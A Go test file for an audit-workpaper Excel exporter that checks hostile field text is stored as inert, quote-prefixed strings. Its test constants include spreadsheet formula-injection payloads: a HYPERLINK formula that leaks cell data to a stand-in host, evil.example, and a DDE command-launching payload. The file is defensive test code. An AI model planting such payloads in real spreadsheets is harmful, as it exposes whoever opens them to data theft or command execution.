package export

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"

	"github.com/fieldwork-audit/fieldwork/model"
	"github.com/fieldwork-audit/fieldwork/sampling"
)

// Text a spreadsheet would run, or that a cell cannot hold.
const (
	hostileLink  = `=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")`
	hostilePlus  = "+1"
	hostileMinus = "-2"
	hostileAt    = "@SUM(A1:A9)"
	hostileTab   = "\t=1+1 after a tab"
	hostileCR    = "\r=2+2 after a carriage return"
	hostileCtl   = "bell\x07 nul\x00 esc\x1b[31m del\x7f c1\u0085 end"
	hostileCJK   = "内部統制の評価 🔐 감사 — 控制测试 👩🏽‍💼"
	hostileDDE   = "=cmd|' /C calc'!A0"
)

// hostileWorkpaper builds an engagement whose every text field a client
// or team member could type is hostile, through the model's own calls.
func hostileWorkpaper(t testing.TB) (*model.Workpaper, string) {
	t.Helper()
	ctx := context.Background()
	dir := t.TempDir()
	path := filepath.Join(dir, "hostile.fieldwork")
	clock := time.Date(2026, 3, 1, 9, 0, 0, 0, time.UTC)
	w, err := model.Create(path, model.Options{User: "eve", Now: func() time.Time { return clock }, NewUUID: model.DeterministicUUIDs("hostile")})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { w.Close() })
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(w.CreateEngagement(ctx, model.NewEngagement{Client: hostileLink, System: hostilePlus, Type: model.TypeII,
		From: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC), To: time.Date(2026, 12, 31, 0, 0, 0, 0, time.UTC),
		Firm: hostileAt + " & Co", Categories: []model.Category{model.Availability}}))
	must(w.AddTeamMember(ctx, model.TeamMember{Name: hostileMinus, Role: model.RolePreparer, Email: hostileTab}))
	must(w.AddSubserviceOrg(ctx, model.SubserviceOrg{Name: hostileCJK, Method: model.CarveOut, Services: hostileCR}))
	must(w.AddComplementaryControl(ctx, model.ComplementaryControl{Kind: model.CUEC, Ref: "CUEC-1", Text: hostileDDE, Criteria: []string{"CC6.1"}}))
	_, err = w.ImportControls(ctx, []model.ControlInput{
		{ID: "X/1", Description: hostileTab, Owner: hostileAt, Frequency: sampling.AdHoc, Criteria: []string{"CC8.1"}},
		{ID: "X:1", Description: hostileCtl, Frequency: sampling.Annual, Criteria: []string{"CC6.1"}},
		{ID: "'Quoted'", Description: hostileCJK, Frequency: sampling.Annual, Criteria: []string{"CC6.1"}},
	}, "hostile.csv")
	must(err)
	var csv strings.Builder
	csv.WriteString("Ticket,Opened,Title,Note\n")
	for i := 1; i <= 40; i++ {
		fmt.Fprintf(&csv, "T-%03d,2026-%02d-%02d,\"%s\",%s\n", i, i%12+1, i%28+1, strings.ReplaceAll(hostileDDE, `"`, `""`), []string{hostilePlus, hostileMinus, hostileAt, "中文🙂"}[i%4])
	}
	src := filepath.Join(dir, "pop.csv")
	must(os.WriteFile(src, []byte(csv.String()), 0o644))
	_, err = w.ImportPopulation(ctx, model.PopulationImport{ControlRef: "X/1", Path: src, IDColumn: "Ticket", DateColumn: "Opened"})
	must(err)
	seed := uint64(7)
	sel, err := w.DrawSample(ctx, model.DrawInput{ControlRef: "X/1", Size: 5, Seed: &seed})
	must(err)
	_, err = w.AddAttribute(ctx, "X/1", "A", hostileLink)
	must(err)
	must(w.AddProcedure(ctx, "X/1", model.Inspection, hostileMinus+" inspected"))
	must(w.SetDesign(ctx, "X/1", 0, model.DesignInput{Procedure: hostileAt, Result: hostileCJK}))
	must(w.SetDesign(ctx, "X:1", 0, model.DesignInput{Procedure: hostileCtl}))
	_, err = w.AddAttribute(ctx, "'Quoted'", "", hostileMinus)
	must(err)
	long := string([]rune(strings.Repeat("Ω long note. ", 40000/13+1))[:40000]) // 40,000 characters
	must(w.SetResult(ctx, model.ResultInput{ControlRef: "X/1", Position: sel.Items[0].Position, Attribute: "A", Outcome: model.Deviation, Note: long, Evidence: hostileAt}))
	must(w.SetResult(ctx, model.ResultInput{ControlRef: "X/1", Position: sel.Items[1].Position, Attribute: "A", Outcome: model.Pass, Note: hostileLink, Tickmark: "✓", Evidence: hostileCJK}))
	_, err = w.AddException(ctx, model.ExceptionInput{ControlRef: "X/1", Positions: []int{sel.Items[0].Position}, Description: hostileDDE,
		Response: hostileCR, ReportWording: hostileLink, CriteriaAffected: []string{"CC8.1"}})
	must(err)
	_, err = w.AddNote(ctx, "control", "X/1", hostilePlus, hostileMinus)
	must(err)
	_, err = w.AddPBC(ctx, model.PBCRequest{Item: hostileAt, ControlRef: "X/1", Note: hostileCtl})
	must(err)
	must(w.AddInterview(ctx, model.Interview{Person: hostileLink, Role: hostileTab, HeldOn: time.Date(2026, 2, 1, 0, 0, 0, 0, time.UTC), Summary: hostileCJK, Controls: []string{"X:1"}}))
	must(w.SetConclusion(ctx, "X/1", model.NotEffective, hostileCR, 0))
	must(w.SetOpinionOverride(ctx, model.OpinionQualified, hostileDDE))
	return w, long
}

func TestExportHostileInput(t *testing.T) {
	w, long := hostileWorkpaper(t)
	opt := testOptions(filepath.Join(t.TempDir(), "hostile.xlsx"))
	opt.IncludeTrail = true
	opt.User = hostileLink
	f, res := exportTo(t, w, opt)

	// Sheet names: invalid characters replaced, collisions numbered,
	// apostrophes trimmed; the W/P refs are intact in the cells.
	wantTests := map[string]string{"WP-X/1": "WP-X-1", "WP-X:1": "WP-X-1 (2)", "WP-'QUOTED'": "WP-'QUOTED"}
	for ref, name := range wantTests {
		if res.ControlSheets[ref] != name {
			t.Errorf("sheet of %s = %q, want %q (all: %v)", ref, res.ControlSheets[ref], name, res.ControlSheets)
		}
	}
	if got := value(rows(t, f, "WP-X-1 (2)"), "W/P ref"); got != "WP-X:1" {
		t.Errorf("W/P ref cell = %q", got)
	}

	// No cell anywhere is a formula.
	assertNoFormulas(t, f)

	// Every formula-like text reads back exactly, as text with a quote prefix.
	checkQP := func(sheet string, want string) {
		t.Helper()
		rs := rows(t, f, sheet)
		for r, row := range rs {
			for c, v := range row {
				if v != want {
					continue
				}
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if !quotePrefixed(t, f, sheet, cell) {
					t.Errorf("%s!%s %q has no quote prefix", sheet, cell, v)
				}
				typ, _ := f.GetCellType(sheet, cell)
				if typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
					t.Errorf("%s!%s %q is stored as %v, not a string", sheet, cell, v, typ)
				}
				return
			}
		}
		t.Errorf("%s: %q not found", sheet, want)
	}
	cleanCR := "\n=2+2 after a carriage return"
	checkQP("Cover", hostileLink)
	checkQP("Cover", hostilePlus)
	checkQP("Cover", hostileMinus)
	checkQP("Cover", hostileTab)
	checkQP("Section 4", hostileTab)
	checkQP("WP-X-1", hostileAt)
	checkQP("WP-X-1", hostileDDE)
	checkQP("WP-X-1", hostilePlus)
	checkQP("Exceptions", hostileDDE)
	checkQP("Exceptions", cleanCR)
	checkQP("Review notes", hostilePlus)
	checkQP("PBC requests", hostileAt)
	checkQP("Interviews", hostileLink)
	checkQP("CUECs and CSOCs", hostileDDE)
	checkQP("Audit trail", hostileLink)

	// Control characters are gone; Unicode is intact; CR LF and CR are LF.
	cover := rows(t, f, "Cover")
	if _, r := findRow(cover, hostileCJK); r == nil {
		t.Error("CJK and emoji text lost")
	}
	s4 := rows(t, f, "Section 4")
	wantCtl := "bell nul esc[31m del c1 end"
	if _, r := findRow(s4, wantCtl); r == nil {
		t.Errorf("control characters not removed: want %q in section 4", wantCtl)
	}
	for _, sheet := range f.GetSheetList() {
		for _, r := range rows(t, f, sheet) {
			for _, v := range r {
				if strings.ContainsAny(v, "\x00\x07\x1b\x7f\r\u0085") || !utf8.ValidString(v) {
					t.Fatalf("%s: a cell holds a control character: %q", sheet, v)
				}
			}
		}
	}

	// The 40,000-character note is cut to fit, with a marker.
	grid := rows(t, f, "WP-X-1")
	var note string
	for _, r := range grid {
		for _, v := range r {
			if strings.HasPrefix(v, "Ω long note.") {
				note = v
			}
		}
	}
	if utf16Len(note) > MaxCellChars || !strings.HasSuffix(note, "[…truncated by fieldwork: 40000 characters in the workpaper]") ||
		!strings.HasPrefix(long, strings.SplitN(note, " […", 2)[0]) {
		t.Errorf("long note: %d UTF-16 units, ends %q", utf16Len(note), note[max(0, len(note)-80):])
	}

	// Properties, header and footer carry the text safely.
	props, _ := f.GetDocProps()
	if props.Creator != hostileLink || !strings.Contains(props.Title, hostileLink) {
		t.Errorf("doc props = %+v", props)
	}
	if hf, _ := f.GetHeaderFooter("Cover"); !strings.Contains(hf.OddHeader, "@SUM(A1:A9) && Co") {
		t.Errorf("header = %q", hf.OddHeader)
	}
	// The opinion override and its reason show on the draft.
	op := rows(t, f, "Opinion draft")
	if _, r := findRow(op, "Override"); r == nil || r[1] != "Qualified opinion: "+hostileDDE {
		t.Errorf("override row = %q", r)
	}
	if !slices.Contains(f.GetSheetList(), "WP-'QUOTED") {
		t.Errorf("sheets = %q", f.GetSheetList())
	}
}

func TestCellText(t *testing.T) {
	for in, want := range map[string]string{
		"plain":              "plain",
		"a\r\nb\rc\nd":       "a\nb\nc\nd",
		"tab\tkept":          "tab\tkept",
		"x\x00\x01\x1f\x7fy": "xy",
		"c1\u0080\u009fz":    "c1z",
		"bad\xffutf8":        "bad\uFFFDutf8",
		"nonchar\uFFFE":      "nonchar\uFFFD",
		"emoji 👩🏽‍💼 ok":      "emoji 👩🏽‍💼 ok",
	} {
		if got := CellText(in); got != want {
			t.Errorf("CellText(%q) = %q, want %q", in, got, want)
		}
	}
	// Cut at a character boundary: an emoji (two UTF-16 units) is never split.
	s := strings.Repeat("a", MaxCellChars-60) + strings.Repeat("😀", 100)
	got := CellText(s)
	if n := utf16Len(got); n > MaxCellChars || !utf8.ValidString(got) || !strings.HasSuffix(got, "characters in the workpaper]") {
		t.Fatalf("cut to %d units, valid %v, ends %q", n, utf8.ValidString(got), got[len(got)-40:])
	}
	exact := strings.Repeat("b", MaxCellChars)
	if CellText(exact) != exact {
		t.Error("a cell of exactly the limit was cut")
	}
}

func TestFormulaLike(t *testing.T) {
	for _, s := range []string{"=1", "+1", "-1", "@x", "\tx", "\rx", "\nx", "  =x", "＝1", "−3"} {
		if !formulaLike(s) {
			t.Errorf("%q not taken as formula-like", s)
		}
	}
	for _, s := range []string{"", "a=1", "1+1", "x-", "'=1", "€5"} {
		if formulaLike(s) {
			t.Errorf("%q taken as formula-like", s)
		}
	}
}

func TestSheetNames(t *testing.T) {
	n := newSheetNamer()
	for _, c := range []struct{ ref, want string }{
		{"WP-CHG-01", "WP-CHG-01"},
		{"WP-A/B:C*D?E[F]G\\H", "WP-A-B-C-D-E-F-G-H"},
		{"WP-A-B-C-D-E-F-G-H", "WP-A-B-C-D-E-F-G-H (2)"},
		{"wp-chg-01", "wp-chg-01 (2)"}, // Excel compares names without case
		{"'quoted'", "quoted"},
		{"Cover", "Cover (2)"},
		{"history", "history (2)"},
		{strings.Repeat("Z", 40), strings.Repeat("Z", 31)},
		{strings.Repeat("Z", 40), strings.Repeat("Z", 27) + " (2)"},
		{strings.Repeat("😀", 20), strings.Repeat("😀", 15)},
		{"\x00\x01", "W-P"},
		{"tab\there", "tab here"},
	} {
		got := n.name(c.ref)
		if got != c.want {
			t.Errorf("name(%q) = %q, want %q", c.ref, got, c.want)
		}
		if utf16Len(got) > 31 {
			t.Errorf("name(%q) = %q is too long", c.ref, got)
		}
	}
}
